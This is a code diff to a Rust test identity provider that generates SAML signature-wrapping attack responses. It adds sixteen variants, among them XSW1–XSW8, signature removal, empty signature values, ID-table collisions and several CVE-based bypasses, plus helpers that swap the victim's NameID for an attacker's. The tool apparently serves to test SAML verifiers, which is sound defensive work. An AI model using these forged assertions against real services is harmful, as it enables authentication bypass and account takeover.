@@ -14,6 +14,8 @@
 use libxml::tree::{Document, Node, SaveOptions};
 use serde::{Deserialize, Serialize};
 
+mod structure;
+
 use crate::xml::{ASSERTION_NS, DSIG_NS};
 
 /// The identity the attacker's assertion claims.
@@ -55,11 +57,72 @@ pub enum SignatureWrapping {
     /// Exclusive C14N drops comments, so the signature stays valid; a verifier that reads only
     /// the first text node truncates the identity (CVE-2017-11427..11430).
     CommentTruncation,
+    /// XSW1 as SAML Raider builds it, on a signed Response: the Response itself becomes the
+    /// attacker's (ID `_evil…`, NameID `attacker@evil.example`) and keeps the IdP's `ds:Signature`,
+    /// to which an unsigned copy of the original Response (with the signed ID) is appended.
+    ResponseCopyInSignature,
+    /// XSW2, on a signed Response: as XSW1, but the unsigned copy of the original Response is the
+    /// attacker's Response's child just before the `ds:Signature` (a detached signature).
+    ResponseCopyBeforeSignature,
+    /// XSW5: the assertion in place becomes the attacker's (ID `_evil…`, evil NameID) and keeps the
+    /// IdP's signature; an unsigned copy of the original, with the signed ID, is appended as the
+    /// Response's last child.
+    EvilKeepsSignatureOriginalAtEnd,
+    /// XSW6: as XSW5, but the unsigned copy of the original is appended inside the evil
+    /// assertion's `ds:Signature`.
+    EvilKeepsSignatureOriginalInSignature,
+    /// XSW7: an `Extensions` element in no namespace (as SAML Raider creates it) before the signed
+    /// assertion, holding an unsigned evil copy that keeps the signed ID.
+    EvilInUnqualifiedExtensions,
+    /// XSW8: the assertion in place becomes the attacker's but keeps the signed ID and the IdP's
+    /// signature, to which an `Object` element in no namespace is added holding an unsigned copy
+    /// of the original.
+    OriginalInUnqualifiedObject,
+    /// Signature exclusion: the assertion's `ds:Signature` removed and its NameID made the
+    /// attacker's, for a verifier that checks a signature only when there is one.
+    SignatureRemoved,
+    /// The assertion's `ds:SignatureValue` emptied (nothing else changed), for a verifier that
+    /// treats an empty value as nothing to check.
+    EmptySignatureValue,
+    /// On a signed Response: the Response's `ds:Signature` moved into the assertion (after its
+    /// Issuer). The enveloped transform still removes it wherever it is, so it verifies; a
+    /// verifier that requires "a valid signature inside the assertion" accepts a signature whose
+    /// Reference names the Response.
+    ResponseSignatureMovedIntoAssertion,
+    /// An `xml:id` attribute on the (unsigned) Response carrying the signed assertion's ID:
+    /// libxml2 enters every `xml:id` in the document's ID table while parsing, so `#ID` may
+    /// resolve to the Response instead of the assertion.
+    XmlIdOnResponse,
+    /// A `samlp:Extensions` holding a bare `samlp:Response` whose ID is the signed assertion's, an
+    /// ID-table collision with an element that is not an assertion (CVE-2025-23369 style).
+    NestedResponseInExtensions,
+    /// As [`Self::NestedResponseInExtensions`], the nested `samlp:Response` inside the assertion
+    /// signature's `ds:KeyInfo`, which neither the digest nor the signature value covers.
+    NestedResponseInKeyInfo,
+    /// CVE-2025-23369 (GitHub Enterprise, libxml2 ID-table quirks) as SAML Raider publishes it:
+    /// a copy of the assertion signature moved to the Response with the signed assertion in its
+    /// `ds:Object`, the outer assertion unsigned and renamed, and the IDs written through entities
+    /// of an internal DTD (`ID="&idViaEntity;"`).
+    IdViaEntity,
+    /// CVE-2025-29774 (xml-crypto): the assertion made the attacker's, and a second
+    /// `ds:SignedInfo` appended to its signature whose DigestValue is the edited assertion's
+    /// digest, for a verifier that checks the signature value over the first SignedInfo and the
+    /// digests of another.
+    SecondSignedInfo,
+    /// CVE-2025-29775 (xml-crypto): the assertion made the attacker's, and the edited assertion's
+    /// digest put in a comment before the original DigestValue text, for a verifier that reads
+    /// the DigestValue's first child node (canonicalisation drops the comment, so the signature
+    /// value still matches).
+    DigestValueComment,
+    /// CVE-2025-47949 (samlify): the IdP's whole signed Response, unchanged, nested inside the
+    /// attacker's Response after an unsigned evil assertion, for a verifier that finds "a valid
+    /// signature somewhere in the document" and reads the first assertion.
+    SignedResponseInsideEvil,
 }
 
 impl SignatureWrapping {
     /// Every variant, for tests and listings.
-    pub const ALL: [SignatureWrapping; 8] = [
+    pub const ALL: [SignatureWrapping; 24] = [
         SignatureWrapping::EvilBefore,
         SignatureWrapping::EvilAfter,
         SignatureWrapping::SignedInExtensions,
@@ -68,7 +131,50 @@ impl SignatureWrapping {
         SignatureWrapping::DuplicateId,
         SignatureWrapping::SignedInEvilAdvice,
         SignatureWrapping::CommentTruncation,
+        SignatureWrapping::ResponseCopyInSignature,
+        SignatureWrapping::ResponseCopyBeforeSignature,
+        SignatureWrapping::EvilKeepsSignatureOriginalAtEnd,
+        SignatureWrapping::EvilKeepsSignatureOriginalInSignature,
+        SignatureWrapping::EvilInUnqualifiedExtensions,
+        SignatureWrapping::OriginalInUnqualifiedObject,
+        SignatureWrapping::SignatureRemoved,
+        SignatureWrapping::EmptySignatureValue,
+        SignatureWrapping::ResponseSignatureMovedIntoAssertion,
+        SignatureWrapping::XmlIdOnResponse,
+        SignatureWrapping::NestedResponseInExtensions,
+        SignatureWrapping::NestedResponseInKeyInfo,
+        SignatureWrapping::IdViaEntity,
+        SignatureWrapping::SecondSignedInfo,
+        SignatureWrapping::DigestValueComment,
+        SignatureWrapping::SignedResponseInsideEvil,
     ];
+
+    /// The seven wrapping permutations and comment truncation that [`apply`] builds itself; the
+    /// others are built in `structure`.
+    fn is_original_wrapping(self) -> bool {
+        matches!(
+            self,
+            SignatureWrapping::EvilBefore
+                | SignatureWrapping::EvilAfter
+                | SignatureWrapping::SignedInExtensions
+                | SignatureWrapping::SignedInSignatureObject
+                | SignatureWrapping::EvilWrapsSigned
+                | SignatureWrapping::DuplicateId
+                | SignatureWrapping::SignedInEvilAdvice
+                | SignatureWrapping::CommentTruncation
+        )
+    }
+
+    /// Whether the attack edits a signed Response (`sign = response`) rather than a signed
+    /// assertion (`sign = assertion`).
+    pub fn attacks_response_signature(self) -> bool {
+        matches!(
+            self,
+            SignatureWrapping::ResponseCopyInSignature
+                | SignatureWrapping::ResponseCopyBeforeSignature
+                | SignatureWrapping::ResponseSignatureMovedIntoAssertion
+        )
+    }
 }
 
 /// Why an attack could not be applied (a bug in the minter, or knobs the attack cannot work on).
@@ -81,6 +187,9 @@ pub enum AttackError {
     /// The response has no signed `saml:Assertion` child to attack.
     #[error("{0:?} needs a signed saml:Assertion child of the Response")]
     NoSignedAssertion(SignatureWrapping),
+    /// The Response carries no `ds:Signature` to attack.
+    #[error("{0:?} needs a signed Response")]
+    NoSignedResponse(SignatureWrapping),
     /// The NameID does not contain the suffix comment truncation splits at.
     #[error("comment truncation needs a NameID containing `{TRUNCATED_SUFFIX}`, got `{0}`")]
     NameIdWithoutSuffix(String),
@@ -93,6 +202,9 @@ pub enum AttackError {
 pub fn apply(xml: &str, attack: SignatureWrapping) -> Result<String, AttackError> {
     let mut doc = crate::dsig::parse(xml).map_err(|_| AttackError::Unparsable)?;
     let response = doc.get_root_element().ok_or(AttackError::Unparsable)?;
+    if !attack.is_original_wrapping() {
+        return structure::apply(&mut doc, response, attack);
+    }
     let mut signed = child_element(&response, ASSERTION_NS, "Assertion")
         .filter(|a| child_element(a, DSIG_NS, "Signature").is_some())
         .ok_or(AttackError::NoSignedAssertion(attack))?;
@@ -116,16 +228,7 @@ pub fn apply(xml: &str, attack: SignatureWrapping) -> Result<String, AttackError
             .add_next_sibling(&mut evil)
             .map_err(|_| edit("insert the evil assertion"))?,
         SignatureWrapping::SignedInExtensions => {
-            let mut status = response
-                .get_child_elements()
-                .into_iter()
-                .find(|c| c.get_name() == "Status")
-                .ok_or(edit("find samlp:Status"))?;
-            let mut extensions = Node::new("Extensions", response.get_namespace(), &doc)
-                .map_err(|_| edit("create samlp:Extensions"))?;
-            status
-                .add_prev_sibling(&mut extensions)
-                .map_err(|_| edit("insert samlp:Extensions"))?;
+            let mut extensions = new_extensions(&doc, &response)?;
             signed
                 .add_prev_sibling(&mut evil)
                 .map_err(|_| edit("insert the evil assertion"))?;
@@ -175,9 +278,26 @@ pub fn apply(xml: &str, attack: SignatureWrapping) -> Result<String, AttackError
                 .add_child(&mut signed)
                 .map_err(|_| edit("move the signed assertion"))?;
         }
-        SignatureWrapping::CommentTruncation => {}
+        // Comment truncation returned above; the others are `structure`'s.
+        _ => {}
     }
     Ok(doc.to_string_with_options(SaveOptions::default()))
+}
+
+/// A new, empty `samlp:Extensions` inserted where the schema puts it: just before `samlp:Status`.
+fn new_extensions(doc: &Document, response: &Node) -> Result<Node, AttackError> {
+    let edit = AttackError::Edit;
+    let mut status = response
+        .get_child_elements()
+        .into_iter()
+        .find(|c| c.get_name() == "Status")
+        .ok_or(edit("find samlp:Status"))?;
+    let mut extensions = Node::new("Extensions", response.get_namespace(), doc)
+        .map_err(|_| edit("create samlp:Extensions"))?;
+    status
+        .add_prev_sibling(&mut extensions)
+        .map_err(|_| edit("insert samlp:Extensions"))?;
+    Ok(extensions)
 }
 
 /// A copy of the signed assertion (unsigned unless `keep_signature`, which keeps a copy of the
@@ -203,23 +323,30 @@ fn evil_copy(doc: &mut Document, id: &str, keep_signature: bool) -> Result<Node,
     }
     copy.set_attribute("ID", id)
         .map_err(|_| edit("set the evil ID"))?;
-    let victim = descendants(&copy)
-        .into_iter()
-        .find(|n| n.get_name() == "NameID")
-        .map(|n| n.get_content())
-        .unwrap_or_default();
-    for mut node in descendants(&copy) {
-        let is_value = matches!(node.get_name().as_str(), "NameID" | "AttributeValue");
-        if is_value && !victim.is_empty() && node.get_content() == victim {
-            node.set_content(ATTACKER_NAME_ID)
-                .map_err(|_| edit("set the evil NameID"))?;
-        }
-    }
+    make_evil(&copy)?;
     copy.unlink_node();
     // The copied subtree stays attributed to `source` (libxml frees it with that document only if
     // reachable), so this leaks one assertion per attack response: acceptable for a test IdP.
     doc.import_node(&mut copy)
         .map_err(|_| edit("import the evil assertion"))
+}
+
+/// Replaces every occurrence of the victim's NameID below `element` (the first NameID, and the
+/// NameID and attribute values equal to it) by [`ATTACKER_NAME_ID`].
+fn make_evil(element: &Node) -> Result<(), AttackError> {
+    let victim = descendants(element)
+        .into_iter()
+        .find(|n| n.get_name() == "NameID")
+        .map(|n| n.get_content())
+        .unwrap_or_default();
+    for mut node in descendants(element) {
+        let is_value = matches!(node.get_name().as_str(), "NameID" | "AttributeValue");
+        if is_value && !victim.is_empty() && node.get_content() == victim {
+            node.set_content(ATTACKER_NAME_ID)
+                .map_err(|_| AttackError::Edit("set the evil NameID"))?;
+        }
+    }
+    Ok(())
 }
 
 /// Splits the NameID's text before [`TRUNCATED_SUFFIX`] with an empty comment.
